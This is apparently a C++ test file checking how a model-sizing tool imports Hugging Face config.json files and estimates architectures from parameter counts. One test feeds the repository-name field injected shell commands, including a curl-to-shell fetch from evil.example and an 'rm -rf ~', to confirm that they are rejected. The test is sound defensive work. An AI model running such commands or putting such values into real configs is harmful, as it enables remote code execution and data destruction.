// Custom models: real Hugging Face config.json texts (short literal copies of the files on
// huggingface.co, source in each comment) imported and compared with the bundled catalog
// entry the researchers wrote from the same file; a bare parameter count; errors.
#include <catch2/catch.hpp>

#include <nlohmann/json.hpp>

#include "test_support.hpp"

#include <cstdint>
#include <limits>
#include <string>

#include "catalog_load.hpp"
#include "catalog_validate.hpp"
#include "catalog_write.hpp"
#include "embedded.hpp"
#include "hf_config.hpp"
#include "params.hpp"

using namespace cardfit;

namespace {

// The imported model alone (notes checked with notes_of).
Result<Model> model_of(Result<ImportedModel> r) {
  if (!r.ok()) return Result<Model>::failure(std::move(r.errors));
  return Result<Model>::success(std::move(r.value->model));
}

std::string notes_of(const Result<ImportedModel>& r) {
  std::string s;
  if (r.ok()) {
    for (const Message& n : r.value->notes) s += cardfit::test::en(n) + "; ";
  }
  return s;
}

}  // namespace
using cardfit::test::en;
using cardfit::test::zh;

namespace {

// [SECTION] Config texts

// https://huggingface.co/meta-llama/Llama-3.1-8B/blob/main/config.json
const char* const kLlama31_8b = R"json({
  "architectures": ["LlamaForCausalLM"], "attention_bias": false, "attention_dropout": 0.0,
  "bos_token_id": 128000, "eos_token_id": 128001, "hidden_act": "silu", "hidden_size": 4096,
  "initializer_range": 0.02, "intermediate_size": 14336, "max_position_embeddings": 131072, "mlp_bias": false,
  "model_type": "llama", "num_attention_heads": 32, "num_hidden_layers": 32, "num_key_value_heads": 8,
  "pretraining_tp": 1, "rms_norm_eps": 1e-05,
  "rope_scaling": {"factor": 8.0, "low_freq_factor": 1.0, "high_freq_factor": 4.0,
                   "original_max_position_embeddings": 8192, "rope_type": "llama3"},
  "rope_theta": 500000.0, "tie_word_embeddings": false, "torch_dtype": "bfloat16",
  "transformers_version": "4.43.0.dev0", "use_cache": true, "vocab_size": 128256})json";

// https://huggingface.co/Qwen/Qwen2.5-7B-Instruct/blob/main/config.json
const char* const kQwen25_7b = R"json({
  "architectures": ["Qwen2ForCausalLM"], "attention_dropout": 0.0, "bos_token_id": 151643,
  "eos_token_id": 151645, "hidden_act": "silu", "hidden_size": 3584, "initializer_range": 0.02,
  "intermediate_size": 18944, "max_position_embeddings": 32768, "max_window_layers": 28, "model_type": "qwen2",
  "num_attention_heads": 28, "num_hidden_layers": 28, "num_key_value_heads": 4, "rms_norm_eps": 1e-06,
  "rope_theta": 1000000.0, "sliding_window": 131072, "tie_word_embeddings": false, "torch_dtype": "bfloat16",
  "transformers_version": "4.43.1", "use_cache": true, "use_sliding_window": false, "vocab_size": 152064})json";

// https://huggingface.co/Qwen/Qwen3-8B/blob/main/config.json
const char* const kQwen3_8b = R"json({
  "architectures": ["Qwen3ForCausalLM"], "attention_bias": false, "attention_dropout": 0.0,
  "bos_token_id": 151643, "eos_token_id": 151645, "head_dim": 128, "hidden_act": "silu", "hidden_size": 4096,
  "initializer_range": 0.02, "intermediate_size": 12288, "max_position_embeddings": 40960,
  "max_window_layers": 36, "model_type": "qwen3", "num_attention_heads": 32, "num_hidden_layers": 36,
  "num_key_value_heads": 8, "rms_norm_eps": 1e-06, "rope_scaling": null, "rope_theta": 1000000,
  "sliding_window": null, "tie_word_embeddings": false, "torch_dtype": "bfloat16",
  "transformers_version": "4.51.0", "use_cache": true, "use_sliding_window": false, "vocab_size": 151936})json";

// https://huggingface.co/Qwen/Qwen3-30B-A3B/blob/main/config.json
const char* const kQwen3_30b_a3b = R"json({
  "architectures": ["Qwen3MoeForCausalLM"], "attention_bias": false, "attention_dropout": 0.0,
  "bos_token_id": 151643, "decoder_sparse_step": 1, "eos_token_id": 151645, "head_dim": 128,
  "hidden_act": "silu", "hidden_size": 2048, "initializer_range": 0.02, "intermediate_size": 6144,
  "max_position_embeddings": 40960, "max_window_layers": 48, "mlp_only_layers": [], "model_type": "qwen3_moe",
  "moe_intermediate_size": 768, "norm_topk_prob": true, "num_attention_heads": 32, "num_experts": 128,
  "num_experts_per_tok": 8, "num_hidden_layers": 48, "num_key_value_heads": 4, "output_router_logits": false,
  "rms_norm_eps": 1e-06, "rope_scaling": null, "rope_theta": 1000000.0, "router_aux_loss_coef": 0.001,
  "sliding_window": null, "tie_word_embeddings": false, "torch_dtype": "bfloat16",
  "transformers_version": "4.51.0", "use_cache": true, "use_sliding_window": false, "vocab_size": 151936})json";

// https://huggingface.co/mistralai/Mistral-7B-v0.1/blob/main/config.json
const char* const kMistral7b = R"json({
  "architectures": ["MistralForCausalLM"], "bos_token_id": 1, "eos_token_id": 2, "hidden_act": "silu",
  "hidden_size": 4096, "initializer_range": 0.02, "intermediate_size": 14336, "max_position_embeddings": 32768,
  "model_type": "mistral", "num_attention_heads": 32, "num_hidden_layers": 32, "num_key_value_heads": 8,
  "rms_norm_eps": 1e-05, "rope_theta": 10000.0, "sliding_window": 4096, "tie_word_embeddings": false,
  "torch_dtype": "bfloat16", "transformers_version": "4.34.0.dev0", "use_cache": true, "vocab_size": 32000})json";

// https://huggingface.co/mistralai/Mixtral-8x7B-v0.1/blob/main/config.json
const char* const kMixtral8x7b = R"json({
  "architectures": ["MixtralForCausalLM"], "attention_dropout": 0.0, "bos_token_id": 1, "eos_token_id": 2,
  "hidden_act": "silu", "hidden_size": 4096, "initializer_range": 0.02, "intermediate_size": 14336,
  "max_position_embeddings": 32768, "model_type": "mixtral", "num_attention_heads": 32, "num_experts_per_tok": 2,
  "num_hidden_layers": 32, "num_key_value_heads": 8, "num_local_experts": 8, "output_router_logits": false,
  "rms_norm_eps": 1e-05, "rope_theta": 1000000.0, "router_aux_loss_coef": 0.02, "sliding_window": null,
  "tie_word_embeddings": false, "torch_dtype": "bfloat16", "transformers_version": "4.36.0.dev0",
  "use_cache": true, "vocab_size": 32000})json";

// https://huggingface.co/google/gemma-2-9b/blob/main/config.json
const char* const kGemma2_9b = R"json({
  "architectures": ["Gemma2ForCausalLM"], "attention_bias": false, "attention_dropout": 0.0,
  "attn_logit_softcapping": 50.0, "bos_token_id": 2, "cache_implementation": "hybrid", "eos_token_id": 1,
  "final_logit_softcapping": 30.0, "head_dim": 256, "hidden_act": "gelu_pytorch_tanh",
  "hidden_activation": "gelu_pytorch_tanh", "hidden_size": 3584, "initializer_range": 0.02,
  "intermediate_size": 14336, "max_position_embeddings": 8192, "model_type": "gemma2", "num_attention_heads": 16,
  "num_hidden_layers": 42, "num_key_value_heads": 8, "pad_token_id": 0, "query_pre_attn_scalar": 256,
  "rms_norm_eps": 1e-06, "rope_theta": 10000.0, "sliding_window": 4096, "sliding_window_size": 4096,
  "torch_dtype": "float32", "transformers_version": "4.42.0.dev0", "use_cache": true, "vocab_size": 256000})json";

// https://huggingface.co/google/gemma-3-27b-it/blob/main/config.json (text_config leaves
// vocab_size, max_position_embeddings and sliding_window_pattern to Gemma3TextConfig).
const char* const kGemma3_27b = R"json({
  "architectures": ["Gemma3ForConditionalGeneration"], "boi_token_index": 255999, "eoi_token_index": 256000,
  "eos_token_id": [1, 106], "image_token_index": 262144, "initializer_range": 0.02, "mm_tokens_per_image": 256,
  "model_type": "gemma3",
  "text_config": {"head_dim": 128, "hidden_size": 5376, "intermediate_size": 21504, "model_type": "gemma3_text",
                  "num_attention_heads": 32, "num_hidden_layers": 62, "num_key_value_heads": 16,
                  "query_pre_attn_scalar": 168, "rope_scaling": {"factor": 8.0, "rope_type": "linear"},
                  "sliding_window": 1024},
  "torch_dtype": "bfloat16", "transformers_version": "4.50.0.dev0",
  "vision_config": {"hidden_size": 1152, "image_size": 896, "intermediate_size": 4304,
                    "model_type": "siglip_vision_model", "num_attention_heads": 16, "num_hidden_layers": 27,
                    "patch_size": 14, "vision_use_head": false}})json";

// https://huggingface.co/deepseek-ai/DeepSeek-V2-Lite/blob/main/config.json (auto_map, rope_scaling trimmed)
const char* const kDeepseekV2Lite = R"json({
  "architectures": ["DeepseekV2ForCausalLM"], "attention_bias": false, "attention_dropout": 0.0,
  "aux_loss_alpha": 0.001, "bos_token_id": 100000, "eos_token_id": 100001, "first_k_dense_replace": 1,
  "hidden_act": "silu", "hidden_size": 2048, "initializer_range": 0.02, "intermediate_size": 10944,
  "kv_lora_rank": 512, "max_position_embeddings": 163840, "model_type": "deepseek_v2",
  "moe_intermediate_size": 1408, "moe_layer_freq": 1, "n_group": 1, "n_routed_experts": 64,
  "n_shared_experts": 2, "norm_topk_prob": false, "num_attention_heads": 16, "num_experts_per_tok": 6,
  "num_hidden_layers": 27, "num_key_value_heads": 16, "pretraining_tp": 1, "q_lora_rank": null,
  "qk_nope_head_dim": 128, "qk_rope_head_dim": 64, "rms_norm_eps": 1e-06, "rope_theta": 10000,
  "routed_scaling_factor": 1.0, "scoring_func": "softmax", "seq_aux": true, "tie_word_embeddings": false,
  "topk_group": 1, "topk_method": "greedy", "torch_dtype": "bfloat16", "transformers_version": "4.33.1",
  "use_cache": true, "v_head_dim": 128, "vocab_size": 102400})json";

// https://huggingface.co/deepseek-ai/DeepSeek-V3/blob/main/config.json (auto_map trimmed)
const char* const kDeepseekV3 = R"json({
  "architectures": ["DeepseekV3ForCausalLM"], "attention_bias": false, "attention_dropout": 0.0,
  "aux_loss_alpha": 0.001, "bos_token_id": 0, "eos_token_id": 1, "ep_size": 1, "first_k_dense_replace": 3,
  "hidden_act": "silu", "hidden_size": 7168, "initializer_range": 0.02, "intermediate_size": 18432,
  "kv_lora_rank": 512, "max_position_embeddings": 163840, "model_type": "deepseek_v3",
  "moe_intermediate_size": 2048, "moe_layer_freq": 1, "n_group": 8, "n_routed_experts": 256,
  "n_shared_experts": 1, "norm_topk_prob": true, "num_attention_heads": 128, "num_experts_per_tok": 8,
  "num_hidden_layers": 61, "num_key_value_heads": 128, "num_nextn_predict_layers": 1, "q_lora_rank": 1536,
  "qk_nope_head_dim": 128, "qk_rope_head_dim": 64,
  "quantization_config": {"activation_scheme": "dynamic", "fmt": "e4m3", "quant_method": "fp8",
                          "weight_block_size": [128, 128]},
  "rms_norm_eps": 1e-06,
  "rope_scaling": {"beta_fast": 32, "beta_slow": 1, "factor": 40, "mscale": 1.0, "mscale_all_dim": 1.0,
                   "original_max_position_embeddings": 4096, "type": "yarn"},
  "rope_theta": 10000, "routed_scaling_factor": 2.5, "scoring_func": "sigmoid", "tie_word_embeddings": false,
  "topk_group": 4, "topk_method": "noaux_tc", "torch_dtype": "bfloat16", "transformers_version": "4.33.1",
  "use_cache": true, "v_head_dim": 128, "vocab_size": 129280})json";

// https://huggingface.co/THUDM/chatglm3-6b/blob/main/config.json (auto_map trimmed)
const char* const kChatglm3_6b = R"json({
  "_name_or_path": "THUDM/chatglm3-6b", "model_type": "chatglm", "architectures": ["ChatGLMModel"],
  "add_bias_linear": false, "add_qkv_bias": true, "apply_query_key_layer_scaling": true,
  "apply_residual_connection_post_layernorm": false, "attention_dropout": 0.0, "attention_softmax_in_fp32": true,
  "bias_dropout_fusion": true, "ffn_hidden_size": 13696, "fp32_residual_connection": false,
  "hidden_dropout": 0.0, "hidden_size": 4096, "kv_channels": 128, "layernorm_epsilon": 1e-05,
  "multi_query_attention": true, "multi_query_group_num": 2, "num_attention_heads": 32, "num_layers": 28,
  "original_rope": true, "padded_vocab_size": 65024, "post_layer_norm": true, "rmsnorm": true,
  "seq_length": 8192, "use_cache": true, "torch_dtype": "float16", "transformers_version": "4.30.2",
  "tie_word_embeddings": false, "eos_token_id": 2, "pad_token_id": 0})json";

// https://huggingface.co/THUDM/glm-4-9b-chat/blob/main/config.json (auto_map trimmed)
const char* const kGlm4_9b = R"json({
  "_name_or_path": "THUDM/glm-4-9b-chat", "model_type": "chatglm", "architectures": ["ChatGLMModel"],
  "add_bias_linear": false, "add_qkv_bias": true, "apply_query_key_layer_scaling": true,
  "apply_residual_connection_post_layernorm": false, "attention_dropout": 0.0, "attention_softmax_in_fp32": true,
  "attn_implementation": "sdpa", "bias_dropout_fusion": true, "ffn_hidden_size": 13696,
  "fp32_residual_connection": false, "hidden_dropout": 0.0, "hidden_size": 4096, "kv_channels": 128,
  "layernorm_epsilon": 1.5625e-07, "multi_query_attention": true, "multi_query_group_num": 2,
  "num_attention_heads": 32, "num_hidden_layers": 40, "num_layers": 40, "rope_ratio": 500,
  "original_rope": true, "padded_vocab_size": 151552, "post_layer_norm": true, "rmsnorm": true,
  "seq_length": 131072, "use_cache": true, "torch_dtype": "bfloat16", "transformers_version": "4.44.0",
  "tie_word_embeddings": false, "eos_token_id": [151329, 151336, 151338], "pad_token_id": 151329})json";

// https://huggingface.co/Qwen/Qwen2.5-VL-7B-Instruct/blob/main/config.json
const char* const kQwen25Vl7b = R"json({
  "architectures": ["Qwen2_5_VLForConditionalGeneration"], "attention_dropout": 0.0, "bos_token_id": 151643,
  "eos_token_id": 151645, "vision_start_token_id": 151652, "vision_end_token_id": 151653,
  "vision_token_id": 151654, "image_token_id": 151655, "video_token_id": 151656, "hidden_act": "silu",
  "hidden_size": 3584, "initializer_range": 0.02, "intermediate_size": 18944, "max_position_embeddings": 128000,
  "max_window_layers": 28, "model_type": "qwen2_5_vl", "num_attention_heads": 28, "num_hidden_layers": 28,
  "num_key_value_heads": 4, "rms_norm_eps": 1e-06, "rope_theta": 1000000.0, "sliding_window": 32768,
  "tie_word_embeddings": false, "torch_dtype": "bfloat16", "transformers_version": "4.41.2", "use_cache": true,
  "use_sliding_window": false,
  "vision_config": {"depth": 32, "hidden_act": "silu", "hidden_size": 1280, "intermediate_size": 3420,
                    "num_heads": 16, "in_chans": 3, "out_hidden_size": 3584, "patch_size": 14,
                    "spatial_merge_size": 2, "spatial_patch_size": 14, "window_size": 112,
                    "fullatt_block_indexes": [7, 15, 23, 31], "tokens_per_second": 2, "temporal_patch_size": 2},
  "rope_scaling": {"type": "mrope", "mrope_section": [16, 24, 24]}, "vocab_size": 152064})json";

// https://huggingface.co/google/gemma-3-1b-it/blob/main/config.json (text-only Gemma 3)
const char* const kGemma3_1b = R"json({
  "architectures": ["Gemma3ForCausalLM"], "attention_bias": false, "attention_dropout": 0.0,
  "attn_logit_softcapping": null, "bos_token_id": 2, "cache_implementation": "hybrid", "eos_token_id": [1, 106],
  "final_logit_softcapping": null, "head_dim": 256, "hidden_activation": "gelu_pytorch_tanh", "hidden_size": 1152,
  "initializer_range": 0.02, "intermediate_size": 6912, "max_position_embeddings": 32768,
  "model_type": "gemma3_text", "num_attention_heads": 4, "num_hidden_layers": 26, "num_key_value_heads": 1,
  "pad_token_id": 0, "query_pre_attn_scalar": 256, "rms_norm_eps": 1e-06, "rope_local_base_freq": 10000,
  "rope_scaling": null, "rope_theta": 1000000, "sliding_window": 512, "sliding_window_pattern": 6,
  "torch_dtype": "bfloat16", "transformers_version": "4.50.0.dev0", "use_cache": true, "vocab_size": 262144})json";

// https://huggingface.co/THUDM/glm-4-9b-chat-hf/blob/main/config.json (transformers-native GLM
// key names; trimmed to the shape keys)
const char* const kGlm4_9b_hf = R"json({
  "architectures": ["GlmForCausalLM"], "head_dim": 128, "hidden_size": 4096, "intermediate_size": 13696,
  "max_position_embeddings": 131072, "model_type": "glm", "num_attention_heads": 32, "num_hidden_layers": 40,
  "num_key_value_heads": 2, "partial_rotary_factor": 0.5, "tie_word_embeddings": false, "vocab_size": 151552})json";


}  // namespace

TEST_CASE("real config.json files import to the catalog's architecture", "[hf_config]") {
  // Expected: the bundled entry written from the same config.json (assets/catalog/models.json),
  // including extra_params counted by the researchers from vision_config.
  const struct {
    const char* config;
    const char* catalog_id;
  } rows[] = {
      {kLlama31_8b, "llama-3.1-8b"},     {kQwen25_7b, "qwen2.5-7b"},       {kQwen3_8b, "qwen3-8b"},
      {kQwen3_30b_a3b, "qwen3-30b-a3b"}, {kMistral7b, "mistral-7b"},       {kMixtral8x7b, "mixtral-8x7b"},
      {kGemma2_9b, "gemma-2-9b"},        {kGemma3_27b, "gemma-3-27b"},     {kDeepseekV2Lite, "deepseek-v2-lite"},
      {kDeepseekV3, "deepseek-v3"},      {kChatglm3_6b, "chatglm3-6b"},    {kGlm4_9b, "glm-4-9b"},
      {kQwen25Vl7b, "qwen2.5-vl-7b"},
  };
  for (const auto& row : rows) {
    INFO(row.catalog_id);
    const Result<Model> r = model_of(import_hf_config(row.config, row.catalog_id));
    INFO(test::all_errors(r.errors));
    REQUIRE(r.ok());
    const Model* want = test::catalog().find_model(row.catalog_id);
    REQUIRE(want != nullptr);
    test::check_same_architecture(*r.value, *want);
    CHECK(r.value->id == row.catalog_id);
    CHECK_FALSE(r.value->assumed_architecture);
    CHECK(r.value->source == std::string("config-") + row.catalog_id);  // ImportedModel::source
    CHECK(r.value->as_of.empty());  // the caller dates it (no clock in the core)
  }
}

TEST_CASE("import reads head_dim, defaults and names where the config leaves them", "[hf_config]") {
  const Result<Model> gemma = model_of(import_hf_config(kGemma3_27b, "g"));
  REQUIRE(gemma.ok());
  CHECK(gemma.value->head_dim == 128);  // explicit: 32 x 128 = 4096 != hidden 5376
  CHECK(notes_of(import_hf_config(kGemma3_27b, "g")).find("vocab_size not in config") != std::string::npos);
  CHECK(gemma.value->extra_params == 423060336);  // SigLIP-So400m + projector, as models.json

  const Result<Model> llama = model_of(import_hf_config(kLlama31_8b, "l"));
  REQUIRE(llama.ok());
  CHECK(notes_of(import_hf_config(kLlama31_8b, "l")).find("head_dim not in config") != std::string::npos);

  const Result<Model> glm = model_of(import_hf_config(kChatglm3_6b, "c"));
  REQUIRE(glm.ok());
  CHECK(glm.value->hf_repo == "THUDM/chatglm3-6b");  // from _name_or_path
  CHECK(glm.value->name == "chatglm3-6b");

  // The imported model is a valid catalog entry once dated: it loads as an overlay, with the
  // config.json it cites as a source.
  const Result<ImportedModel> imported = import_hf_config(kLlama31_8b, "my-llama");
  REQUIRE(imported.ok());
  CHECK(imported.value->source.title == "config.json (no repository named in it)");  // no _name_or_path
  const Result<ImportedModel> chatglm = import_hf_config(kChatglm3_6b, "c");
  REQUIRE(chatglm.ok());
  CHECK(chatglm.value->source.title == "THUDM/chatglm3-6b config.json");
  CHECK(chatglm.value->source.url == "https://huggingface.co/THUDM/chatglm3-6b");
  CHECK(chatglm.value->source.publisher == "THUDM");
  Model m = imported.value->model;
  m.as_of = "2026-11-29";
  Source s = imported.value->source;
  s.date = "2026-11-29";
  Catalog one;
  one.models.push_back(m);
  one.sources.push_back(s);
  const Result<Catalog> merged = apply_overlay(test::catalog(), CatalogFile{"import.json", catalog_to_json(one)});
  INFO(test::all_errors(merged.errors));
  CHECK(merged.ok());
}

TEST_CASE("import errors name the missing or bad key", "[hf_config][errors]") {
  const struct {
    std::string config;
    const char* id;
    const char* field;
    const char* message;
  } rows[] = {
      {R"({"model_type": "llama", "hidden_size": 4096})", "x", "config.json: num_hidden_layers",
       "is required for model_type 'llama'"},
      {R"({"model_type": "gpt2", "n_layer": 12})", "x", "config.json: model_type", "'gpt2' is not supported"},
      {R"({"hidden_size": 4096})", "x", "config.json: model_type", "is required"},
      {R"({"model_type": "gemma3"})", "x", "config.json: text_config", "is required"},
      {R"({"model_type": "chatglm", "num_layers": 28})", "x", "config.json: padded_vocab_size", "is required"},
      {R"({"model_type": "llama", "num_hidden_layers": "32"})", "x", "config.json: num_hidden_layers",
       "must be an integer"},
      {R"({"model_type": "llama", "num_hidden_layers": -32})", "x", "config.json: num_hidden_layers",
       "must be an integer from 1 to"},
      {kLlama31_8b, "My Model", "id", "must be a lowercase id"},
      {R"({"model_type": "llama",)", "x", "config.json", "invalid JSON"},
      {"[1, 2]", "x", "config.json", "must be an object"},
      {"{\"model_type\": \"ll\xFF\"}", "x", "config.json", "invalid UTF-8"},
  };
  for (const auto& row : rows) {
    INFO(row.config);
    const Result<Model> r = model_of(import_hf_config(row.config, row.id));
    INFO(test::all_errors(r.errors));
    REQUIRE_FALSE(r.ok());
    bool found = false;
    for (const Issue& e : r.errors) found = found || (e.field == row.field && en(e.message).find(row.message) != std::string::npos);
    CHECK(found);
  }
  // No head_dim and a hidden size the heads do not divide: an error, not head_dim 132 silently.
  const Result<Model> odd = model_of(import_hf_config(
      R"({"model_type": "qwen2", "num_hidden_layers": 28, "hidden_size": 3584, "intermediate_size": 18944,
          "num_attention_heads": 27, "num_key_value_heads": 3, "vocab_size": 152064,
          "max_position_embeddings": 32768})",
      "odd"));
  REQUIRE_FALSE(odd.ok());
  CHECK(odd.errors[0].field == "config.json: head_dim");
  CHECK(en(odd.errors[0].message).find("is not a multiple of num_attention_heads 27") != std::string::npos);
  // A config whose numbers make no sense is caught by the catalog's own rules.
  const Result<Model> r = model_of(import_hf_config(
      R"({"model_type": "llama", "num_hidden_layers": 32, "hidden_size": 4096, "intermediate_size": 11008,
          "num_attention_heads": 32, "num_key_value_heads": 5, "vocab_size": 32000, "max_position_embeddings": 4096})",
      "odd"));
  REQUIRE_FALSE(r.ok());
  CHECK(test::all_errors(r.errors).find("num_kv_heads") != std::string::npos);
}

// Issue 32: _name_or_path goes into launch commands. "owner/name" must be a repository id; a
// local path or a bare name names no repository (the command then uses the model's id).
TEST_CASE("_name_or_path: a repository id, a local path, or refused naming the field", "[hf_config][errors]") {
  auto with_name = [](const std::string& name) {
    nlohmann::json j = nlohmann::json::parse(kQwen25_7b);
    j["_name_or_path"] = name;
    return import_hf_config(j.dump(), "custom");
  };
  for (const char* bad : {"meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #", "a/b\nrm -rf ~", "a/b/c",
                          "owner/na me", "o--wner/x", "x/y'z"}) {
    const Result<ImportedModel> r = with_name(bad);
    INFO(bad);
    REQUIRE_FALSE(r.ok());
    CHECK(r.errors.at(0).field == "config.json: _name_or_path");
    CHECK(en(r.errors[0].message).find("must be a Hugging Face repository id") != std::string::npos);
  }
  const Result<ImportedModel> repo = with_name("Qwen/Qwen2.5-7B-Instruct");
  REQUIRE(repo.ok());
  CHECK(repo.value->model.hf_repo == "Qwen/Qwen2.5-7B-Instruct");
  for (const char* local : {"/root/autodl-tmp/Qwen2.5-7B", "./models/q", "~/m/q", "C:\\models\\q", "Qwen2.5-7B"}) {
    const Result<ImportedModel> r = with_name(local);
    INFO(local);
    REQUIRE(r.ok());
    CHECK(r.value->model.hf_repo.empty());
  }
}

TEST_CASE("a bare parameter count gives an assumed Llama-like model", "[hf_config]") {
  // The shape is borrowed from the nearest (in log params) dense, full-attention text model of
  // the catalog (assets/catalog/models.json); ties go to the first in catalog order.
  const struct {
    double params;
    const char* reference;  // the catalog model whose depth and width it takes
  } rows[] = {
      {0.5e9, "qwen2.5-0.5b"},      // 0.49 B
      {1.5e9, "qwen2.5-1.5b"},      // 1.54 B
      {3e9, "qwen2.5-3b"},          // 3.09 B
      {7e9, "deepseek-llm-7b"},     // 7.0 B (Mistral-7B slides, Qwen2.5-7B is 7.61 B)
      {13e9, "llama-2-13b"},        // 13.02 B
      {34e9, "yi-34b"},             // 34.4 B
      {70e9, "llama-3-70b"},        // 70.55 B, listed before Llama-3.1-70B
      {400e9, "llama-3.1-405b"},    // 405.85 B
  };
  for (const auto& row : rows) {
    INFO(row.params);
    const Model* ref = test::catalog().find_model(row.reference);
    REQUIRE(ref != nullptr);
    const Result<ImportedModel> imported = model_from_param_count(row.params, "custom", test::catalog().models);
    const Result<Model> r = model_of(imported);
    INFO(test::all_errors(r.errors));
    REQUIRE(r.ok());
    const Model& m = *r.value;
    CHECK(m.assumed_architecture);
    CHECK(m.num_layers == ref->num_layers);
    CHECK(m.hidden_size == ref->hidden_size);
    CHECK(notes_of(imported).find(ref->name) != std::string::npos);
    CHECK(m.num_attention_heads % m.num_kv_heads == 0);
    CHECK(m.num_kv_heads <= 8);
    CHECK(m.vocab_size == 128256);
    CHECK(m.published_params_b == Approx(row.params / 1e9));
    // Solved intermediate_size: the count matches within 1% (rounding to 256).
    CHECK(static_cast<double>(count_params(m).total) == Approx(row.params).epsilon(0.01));
    CHECK(notes_of(imported).find("Assumed architecture") != std::string::npos);
  }
  for (double bad : {7.0, -1.0, 0.0, 1e14, std::numeric_limits<double>::quiet_NaN(),
                     std::numeric_limits<double>::infinity()}) {
    INFO(bad);
    const Result<Model> r = model_of(model_from_param_count(bad, "custom", test::catalog().models));
    REQUIRE_FALSE(r.ok());
    CHECK(r.errors[0].field == "params");
  }
  CHECK_FALSE(model_from_param_count(7e9, "Bad Id", test::catalog().models).ok());
  // No reference: a catalog without a dense full-attention model gives no shape, and says so.
  std::vector<Model> moe_only;
  for (const Model& m : test::catalog().models) {
    if (m.is_moe) moe_only.push_back(m);
  }
  REQUIRE_FALSE(moe_only.empty());
  const Result<ImportedModel> none = model_from_param_count(7e9, "custom", moe_only);
  REQUIRE_FALSE(none.ok());
  CHECK(none.errors[0].field == "params");
  CHECK(en(none.errors[0].message).find("no dense text model") != std::string::npos);
}

TEST_CASE("text-only Gemma 3 and transformers-native GLM configs", "[hf_config]") {
  const Result<Model> gemma = model_of(import_hf_config(kGemma3_1b, "gemma-3-1b"));
  INFO(test::all_errors(gemma.errors));
  REQUIRE(gemma.ok());
  CHECK(gemma.value->family == "gemma3");
  CHECK(gemma.value->head_dim == 256);
  CHECK(gemma.value->tie_embeddings);  // Gemma3TextConfig default
  CHECK(gemma.value->qk_norm);
  CHECK(gemma.value->sliding_window.window == 512);
  CHECK(gemma.value->sliding_window.layers == 26 - 26 / 6);  // every 6th layer is global
  // keras-hub gemma3_presets.py, "gemma3_1b": "params": 999885952.
  CHECK(count_params(*gemma.value).total == 999885952);

  // The same GLM-4-9B as ChatGLM's own key names give, except for the family name.
  const Result<Model> hf = model_of(import_hf_config(kGlm4_9b_hf, "glm-4-9b-hf"));
  const Result<Model> own = model_of(import_hf_config(kGlm4_9b, "glm-4-9b"));
  INFO(test::all_errors(hf.errors));
  REQUIRE(hf.ok());
  REQUIRE(own.ok());
  CHECK(hf.value->family == "glm");
  CHECK(hf.value->qkv_bias);  // GlmConfig attention_bias defaults to true
  Model same = *hf.value;
  same.family = own.value->family;
  test::check_same_architecture(same, *own.value);
}
